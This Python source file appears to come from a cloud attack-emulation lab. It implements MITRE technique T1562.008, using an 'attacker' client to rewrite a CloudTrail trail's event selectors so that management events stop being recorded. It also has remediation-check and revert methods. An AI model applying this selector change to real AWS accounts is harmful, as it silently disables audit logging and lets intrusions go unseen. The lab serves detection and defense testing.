"""cloudtrail-event-selectors: keep the trail logging but drop management events (T1562.008)."""

from __future__ import annotations

from pathlib import Path

from lab.attacks.base import Prerequisites
from lab.attacks.resources import missing_ok
from lab.attacks.trail import LabTrailTechnique
from lab.emulator.endpoints import Endpoints

ALL_MANAGEMENT = [{"ReadWriteType": "All", "IncludeManagementEvents": True}]


class CloudTrailEventSelectors(LabTrailTechnique):
    folder = Path(__file__).parent

    def detonate(self, endpoints: Endpoints, prerequisites: Prerequisites) -> None:
        endpoints.client("cloudtrail", "attacker").put_event_selectors(
            TrailName=prerequisites["trail"],
            EventSelectors=[
                {
                    "ReadWriteType": "ReadOnly",
                    "IncludeManagementEvents": False,
                    "DataResources": [
                        {"Type": "AWS::S3::Object", "Values": ["arn:aws:s3:::lab-nothing/"]}
                    ],
                }
            ],
        )

    def is_remediated(self, endpoints: Endpoints, prerequisites: Prerequisites) -> bool:
        """The trail logs, and some selector records management writes."""
        if not super().is_remediated(endpoints, prerequisites):
            return False
        with missing_ok("TrailNotFoundException"):
            selectors = (
                endpoints.client("cloudtrail", "observer")
                .get_event_selectors(TrailName=prerequisites["trail"])
                .get("EventSelectors", ALL_MANAGEMENT)
            )
            return any(
                s.get("IncludeManagementEvents", True)
                and s.get("ReadWriteType", "All") != "ReadOnly"
                for s in selectors
            )
        return False

    def revert(self, endpoints: Endpoints, prerequisites: Prerequisites) -> None:
        super().revert(endpoints, prerequisites)
        endpoints.client("cloudtrail", "harness").put_event_selectors(
            TrailName=prerequisites["trail"], EventSelectors=ALL_MANAGEMENT
        )


TECHNIQUE = CloudTrailEventSelectors
